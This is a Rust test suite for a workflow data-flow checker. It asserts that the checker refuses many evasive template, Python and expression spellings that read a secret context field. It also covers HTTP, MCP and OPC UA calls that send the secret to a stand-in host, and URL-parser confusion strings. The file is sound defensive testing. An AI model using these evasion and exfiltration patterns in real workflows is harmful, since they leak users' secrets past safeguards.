//! Spellings that read sensitive data without naming its field, and receivers that are not models: each is a leak.

use stave_diag::{Diagnostic, Sources};
use stave_flow::model::Sensitivity;
use stave_flow::{CheckOptions, Scopes, load};

fn found(text: &str, scopes: Scopes) -> Vec<Diagnostic> {
    let mut sources = Sources::new();
    let source = sources.add("flow.yaml", text);
    load(source, text, &CheckOptions { scopes, ..CheckOptions::default() }).diagnostics
}

/// Refused means a leak, or another error: an attack that does not pass the check has failed.
fn is_refused(text: &str) -> bool {
    found(text, Scopes::default()).iter().any(Diagnostic::is_error)
}

fn flow(nodes: &str, edges: &str) -> String {
    format!(
        "version: \"1.0\"\nmetadata: {{name: labelled}}\ncontext:\n  requires: [secret, plain, other, session_id]\n  \
         sensitivity: {{secret: restricted}}\nnodes:\n{nodes}\nedges:\n{edges}\n"
    )
}

fn prompt(template: &str) -> String {
    let template = template.replace('\'', "''");
    flow(
        &format!(
            "  ask:\n    type: transform\n    inputs: [{{name: text, type: string}}]\n    outputs: [{{name: reply, type: string}}]\n    \
             prompt:\n      template: '{template}'\n      model: {{provider: openai, name: m}}"
        ),
        "  - {from: _input.plain, to: ask.text}\n  - {from: ask.reply, to: _output}",
    )
}

fn code(body: &str) -> String {
    let body: String = body.lines().map(|line| format!("            {line}\n")).collect();
    flow(
        &format!(
            "  copy:\n    type: transform\n    inputs: [{{name: text, type: string}}]\n    outputs: [{{name: text, type: string}}]\n    \
             transform:\n      mode: code\n      spec: |\n        def transform(inputs, context, state):\n{body}  \
             ask: {{type: transform, inputs: [{{name: text, type: string}}], outputs: [{{name: reply, type: string}}], \
             prompt: {{template: \"{{{{ text }}}}\", model: {{provider: openai, name: m}}}}}}"
        ),
        "  - {from: _input.plain, to: copy.text}\n  - {from: copy.text, to: ask.text}\n  - {from: ask.reply, to: _output}",
    )
}

fn operation(spec: &str) -> String {
    flow(
        &format!(
            "  call: {{type: transform, inputs: [{{name: text, type: string}}], outputs: [{{name: out, type: object}}], \
             transform: {{mode: declarative, spec: {spec}}}}}"
        ),
        "  - {from: _input.plain, to: call.text}\n  - {from: call.out, to: _output}",
    )
}

#[test]
fn a_template_that_uses_the_context_reads_all_of_it() {
    assert!(!is_refused(&prompt("{{ text }} {{ context.plain }}")));
    for template in [
        "{{ context | tojson }}",
        "{{ context }}",
        "{{ context.items() | list }}",
        "{{ context.values() | list }}",
        "{{ context.get('sec' ~ 'ret') }}",
        "{{ context['sec' ~ 'ret'] }}",
        "{{ context | attr('secret') }}",
        "{% set c = context %}{{ c.secret }}",
        "{% with c = context %}{{ c.secret }}{% endwith %}",
        "{% for k in context %}{{ k }}{% endfor %}",
        "{% for k, v in context | dictsort %}{{ v }}{% endfor %}",
        "{% macro m(c) %}{{ c.secret }}{% endmacro %}{{ m(context) }}",
        "{% macro m(c=context) %}{{ c.secret }}{% endmacro %}{{ m() }}",
        "{% macro m() %}{{ caller(context) }}{% endmacro %}{% call(c) m() %}{{ c.secret }}{% endcall %}",
        "{{ [context] | map(attribute='secret') | join }}",
        "{% if text %}{% set context = {} %}{% endif %}{{ context.secret }}",
        "{% for context in [] %}{% endfor %}{{ context.secret }}",
        "{% set ns = namespace(c=context) %}{{ ns.c.secret }}",
        "{{ dict(context).secret }}",
        "{% include 'x' %}{{ self }}",
        "{% for i in [1] %}{{ loop.cycle(context) }}{% endfor %}",
        "{% filter upper %}{{ context }}{% endfilter %}",
    ] {
        assert!(is_refused(&prompt(template)), "{template}");
    }
}

#[test]
fn code_that_uses_the_context_reads_all_of_it() {
    assert!(!is_refused(&code("return {'text': context.plain + inputs['text']}")));
    for body in [
        "def g(context=context):\n    return context.secret\nreturn {'text': g()}",
        "def g(c=context):\n    return c.secret\nreturn {'text': g()}",
        "g = lambda c=context: c.secret\nreturn {'text': g()}",
        "def g():\n    return context.secret\nreturn {'text': g()}",
        "return {'text': str([c for c in [context]])}",
        "return {'text': str([context for context in [context]])}",
        "return {'text': (c := context).secret}",
        "return {'text': str(list(context.items()))}",
        "return {'text': str(context.values())}",
        "get = context.get\nreturn {'text': get('secret')}",
        "return {'text': context.get('sec' + 'ret')}",
        "return {'text': getattr(context, 'sec' + 'ret')}",
        "return {'text': f'{context}'}",
        "return {'text': '{c.secret}'.format(c=context)}",
        "def g(*a):\n    return a[0].secret\nreturn {'text': g(*[context])}",
        "inputs = context\nreturn {'text': str(inputs)}",
        "class C:\n    c = context\nreturn {'text': C.c.secret}",
        "def g(x: context = context):\n    return x.secret\nreturn {'text': g()}",
        "match context:\n    case c:\n        return {'text': c.secret}",
        "match context:\n    case {'secret': s}:\n        return {'text': s}",
        "def d(f, c=context):\n    return lambda: c.secret\n@d\ndef g():\n    pass\nreturn {'text': g()}",
        "try:\n    raise ValueError(context)\nexcept ValueError as e:\n    return {'text': str(e)}",
        "x = None\ndef g():\n    nonlocal x\n    x = context\ng()\nreturn {'text': x.secret}",
        "[x] = [context]\nreturn {'text': x.secret}",
        "a, *b = [1, context]\nreturn {'text': b[0].secret}",
        "return {'text': str({**context})}",
        "def g(**k):\n    return k['secret']\nreturn {'text': g(**context)}",
        "return {'text': str([*context.values()])}",
        "for k in context:\n    return {'text': str(context[k])}",
        "assert not context, context\nreturn {'text': ''}",
        "return {'text': (lambda: context)().secret}",
        "x: dict = context\nreturn {'text': x['secret']}",
        "while (c := context):\n    return {'text': c.secret}",
        "return {'text': str({context.secret: 1})}",
        "return {'text': str(context | {})}",
        "return {'text': 'x' if context['secret'] == 'y' else ''}",
    ] {
        assert!(is_refused(&code(body)), "{body}");
    }
}

#[test]
fn an_expression_that_uses_the_context_reads_all_of_it() {
    let text = |transform: &str| {
        flow(
            "  ask: {type: transform, inputs: [{name: text, type: string}], outputs: [{name: reply, type: string}], \
             prompt: {template: \"{{ text }}\", model: {provider: openai, name: m}}}",
            &format!(
                "  - {{from: _input.plain, to: ask.text, transform: \"{transform}\"}}\n  - {{from: ask.reply, to: _output}}"
            ),
        )
    };
    assert!(!is_refused(&text("value + context.other")));
    for transform in [
        "str(context)",
        "str(list(context.values()))",
        "context.get('sec' + 'ret')",
        "[c.get('secret') for c in [context]][0]",
        "[context for context in [context]][0].get('secret')",
        "sorted(['a', 'b'], key=lambda x, c=context: x == c.secret)[0]",
        "context.secret",
    ] {
        assert!(is_refused(&text(transform)), "{transform}");
    }
}

#[test]
fn every_operation_that_sends_its_arguments_away_is_a_receiver() {
    for spec in [
        "{op: http.post, args: {url: \"https://x.example.com\", body: {a: \"${context.secret}\"}}}",
        "{op: http.get, args: {url: \"https://x.example.com/${context.secret}\"}}",
        "{op: mcp.call, args: {server: files, tool: read, arguments: {a: \"${context.secret}\"}}}",
        "{op: mcp.call, args: {server: files, tool: \"${context.secret}\"}}",
        "{op: hopsworks.write_features, args: {feature_group: g, data: {a: \"${context.secret}\"}}}",
        "{op: hopsworks.read_features, args: {feature_group: g, key: \"${context.secret}\"}}",
        "{op: opcua.write, args: {endpoint: \"opc.tcp://x:1\", node_id: \"ns=2;i=1\", value: \"${context.secret}\"}}",
    ] {
        assert!(is_refused(&operation(spec)), "{spec}");
        let plain = spec.replace("context.secret", "context.plain");
        assert!(
            !is_refused(&operation(&plain)),
            "{plain}: {:?}",
            found(&operation(&plain), Scopes::default())
        );
    }
}

#[test]
fn a_host_is_named_only_when_checker_and_client_read_the_same_one() {
    let mut scopes = Scopes::default();
    scopes.hosts.insert("localhost".to_owned(), Sensitivity::Restricted);
    for url in [
        "http:/127.0.0.1:7801/echo?x=://localhost/",
        "http:127.0.0.1/?x=://localhost/",
        "http://localhost@127.0.0.1/",
        "http://localhost\\\\@127.0.0.1/",
        "http://localhost${text}/",
        "${text}://localhost/",
    ] {
        let spec = format!("{{op: http.post, args: {{url: \"{url}\", body: \"${{context.secret}}\"}}}}");
        assert!(found(&operation(&spec), scopes.clone()).iter().any(Diagnostic::is_error), "{url}");
    }
    let spec = "{op: http.post, args: {url: \"http://LOCALHOST:80/${text}\", body: \"${context.secret}\"}}";
    assert_eq!(found(&operation(spec), scopes), []);
}

#[test]
fn a_person_who_approves_hands_the_label_on() {
    let nodes = "  ok: {type: transform, inputs: [{name: text, type: string}], outputs: [{name: text, type: string}], \
                 transform: {mode: declarative, spec: {op: human.approve, args: {message: ok}}}}\n  \
                 ask: {type: transform, inputs: [{name: text, type: string}], outputs: [{name: reply, type: string}], \
                 prompt: {template: \"{{ text }}\", model: {provider: openai, name: m}}}";
    let edges = "  - {from: _input.secret, to: ok.text}\n  - {from: ok.text, to: ask.text}\n  - {from: ask.reply, to: _output}";
    assert!(is_refused(&flow(nodes, edges)));
    assert!(!is_refused(&flow(nodes, &edges.replace("_input.secret", "_input.plain"))));
}

#[test]
fn the_address_of_a_model_is_told_to_its_host() {
    let text = prompt("{{ text }}").replace(
        "model: {provider: openai, name: m}",
        "model: {provider: openai, name: m, endpoint: \"https://x.example.com/${context.secret}\"}",
    );
    assert!(is_refused(&text));
}

#[test]
fn state_keys_that_may_be_equal_are_one_record() {
    let text = |write: &str, read: &str| {
        let node = |id: &str, key: &str, ports: &str, body: &str| {
            format!(
                "  {id}:\n    type: transform\n    {ports}\n    state: {{scope: session, key: \"{key}\"}}\n    transform:\n      \
                 mode: code\n      spec: |\n        def transform(inputs, context, state):\n            {body}\n"
            )
        };
        let nodes = format!(
            "{}{}  ask: {{type: transform, inputs: [{{name: text, type: string}}], outputs: [{{name: reply, type: string}}], \
             prompt: {{template: \"{{{{ text }}}}\", model: {{provider: openai, name: m}}}}}}",
            node(
                "write",
                write,
                "inputs: [{name: text, type: string}]\n    outputs: [{name: done, type: boolean}]",
                "await state.set('t', inputs['text'])\n            return {'done': True}"
            ),
            node(
                "read",
                read,
                "inputs: []\n    outputs: [{name: text, type: string}]",
                "return {'text': await state.get('t', '')}"
            ),
        );
        flow(
            &nodes,
            "  - {from: read.text, to: ask.text}\n  - {from: _input.secret, to: write.text}\n  - {from: ask.reply, to: _output}",
        )
    };
    for (write, read) in [
        ("k_{context.plain}_{session_id}", "k_{context.other}_{session_id}"),
        ("k_{session_id}", "{context.plain}{session_id}"),
        ("k_{session_id}", "k_{context.plain}_user_id_{session_id}"),
        ("{session_id}", "{text_is_no_input}{session_id}"),
    ] {
        assert!(is_refused(&text(write, read)), "{write} {read}");
    }
    assert!(!is_refused(&text("a_{session_id}", "b_{session_id}")));
    assert!(!is_refused(&text("{session_id}_a", "{session_id}_b")));
}
